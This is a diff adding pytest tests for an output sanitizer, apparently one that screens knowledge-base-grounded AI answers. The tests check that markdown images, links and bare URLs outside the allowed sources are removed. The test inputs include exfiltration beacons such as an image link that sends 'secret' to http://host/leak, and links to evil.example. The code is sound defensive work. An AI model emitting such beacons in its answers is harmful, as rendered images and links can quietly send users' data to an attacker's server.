@@ -121,3 +121,29 @@ def test_a_citation_marker_stays_with_its_sentence_and_lists_keep_their_shape() 
     ]  # fmt: skip
     kept = _without(text, ["Keep the box. [1]", "Invented two [2]"])
     assert kept == "- Unpack it.\n- Call us [2]\nPlain one. [1] Three."
+
+
+@pytest.mark.parametrize(
+    "beacon",
+    [
+        "![gift [note] sample](http://host/leak?q=secret)",
+        "[x](http://evil.example 'title')",
+        "[x](http://evil.example (title))",
+        "visit www.evil.example",
+        "visit HTTP://EVIL.EXAMPLE/x",
+    ],
+)
+def test_sanitizer_leaves_no_image_link_or_autolink_outside_the_kb(beacon: str, context: ScreenContext) -> None:
+    from markdown_it import MarkdownIt
+
+    verdict = Sanitizer().check(f"Delivery takes 3 to 5 days [1]. {beacon}", context)
+    children = [c for t in MarkdownIt().parse(verdict.text) for c in t.children or []]
+    assert not [c for c in children if c.type in ("image", "link_open")]
+    assert "evil" not in verdict.text.lower() and "host" not in verdict.text and verdict.reasons
+
+
+def test_a_url_written_in_a_passage_may_be_linked(context: ScreenContext) -> None:
+    status = "https://status.example/delivery"
+    ctx = ScreenContext(passages=(passage(f"{TEXT} Live status: {status}."),), allowed_urls=context.allowed_urls)
+    verdict = Sanitizer().check(f"See [the status page]({status}) [1].", ctx)
+    assert verdict.text == f"See [the status page]({status}) [1]." and not verdict.reasons
